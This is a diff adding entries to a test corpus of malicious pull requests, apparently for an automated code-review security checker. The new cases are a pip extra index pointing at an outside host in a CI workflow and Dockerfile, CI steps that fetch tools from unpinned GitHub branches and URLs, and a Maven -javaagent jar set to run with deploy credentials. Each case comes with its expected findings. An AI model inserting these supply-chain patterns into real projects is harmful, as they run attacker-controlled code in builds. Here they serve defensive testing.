@@ -2865,6 +2865,57 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['pip-extra-index'] },
   },
   {
+    id: 'attack-workflow-pip-extra-index',
+    description:
+      'Dependency confusion moved out of the requirements file: a newcomer\'s "faster CI" PR gives pip an extra index on the command line of a workflow step and a Dockerfile ENV, where a requirements-file reader never looks (pip then takes each package from whichever of PyPI and that host offers the higher version).',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-py',
+        number: 7635,
+        title: 'ci: use the wheel cache for faster installs',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.github/workflows/test.yml',
+            base: lines('name: test', 'on: [push, pull_request]', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: pip install -r requirements.txt', '      - run: pytest'),
+            head: lines('name: test', 'on: [push, pull_request]', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: pip install --extra-index-url https://wheels.tint-cache.dev/simple -r requirements.txt', '      - run: pytest'),
+          },
+          { path: 'Dockerfile', base: lines('FROM python:3.12-slim', 'COPY . /app', 'RUN pip install /app'), head: lines('FROM python:3.12-slim', 'ENV PIP_EXTRA_INDEX_URL=https://wheels.tint-cache.dev/simple', 'COPY . /app', 'RUN pip install /app') },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['pip-extra-index'] },
+  },
+  {
+    id: 'attack-ci-tools-from-moving-sources',
+    description:
+      "A newcomer's lint step runs a formatter with `npx -p someone/tool` (npm reads a bare owner/repo as the GitHub repository's default branch), takes the requirements list from a URL on a branch, and `go get`s a generator without a version: three tools whose code is whatever was last pushed.",
+    fixture: () =>
+      attackPr({
+        repo: 'tint-py',
+        number: 7636,
+        title: 'ci: add lint tools',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.github/workflows/lint.yml',
+            head: lines(
+              'name: lint',
+              'on: [push, pull_request]',
+              'jobs:',
+              '  lint:',
+              '    runs-on: ubuntu-latest',
+              '    steps:',
+              '      - uses: actions/checkout@v4',
+              '      - run: npx -p tint-tools/fmt fmt --check .',
+              '      - run: pip install -r https://raw.githubusercontent.com/tint-tools/lint-deps/main/requirements.txt',
+              '      - run: go get github.com/tint-tools/gen && go generate ./...',
+            ),
+          },
+        ],
+      }),
+    expect: { level: 'medium', action: ['comment', 'needs_discussion'], findings: ['gha-unpinned-tool'] },
+  },
+  {
     id: 'attack-mvn-jvm-config-agent',
     description:
       'A "build cache" PR commits a jar under .mvn/ and loads it with -javaagent in .mvn/jvm.config: every mvn and ./mvnw run starts it inside Maven\'s JVM, with the deploy credentials the release job hands Maven (the wrapper-jar swap that gradle/actions/wrapper-validation exists for, moved to a file no validator checks).',
